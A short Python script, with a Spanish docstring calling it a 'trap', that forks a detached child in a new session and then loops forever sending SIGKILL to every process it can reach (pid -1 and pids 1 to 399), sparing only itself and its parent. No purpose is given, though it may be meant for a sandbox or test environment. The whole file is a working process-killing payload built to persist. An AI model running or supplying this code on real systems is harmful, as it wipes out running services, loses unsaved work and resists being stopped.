"""Trampa: matar a quien se pueda, y dejar un proceso en otra sesión que lo siga haciendo."""
import os
import signal
import time

if os.fork() == 0:
    os.setsid()
while True:
    for pid in [-1, *range(1, 400)]:
        try:
            if pid not in (os.getpid(), os.getppid()):
                os.kill(pid, signal.SIGKILL)
        except OSError:
            pass
    time.sleep(0.05)
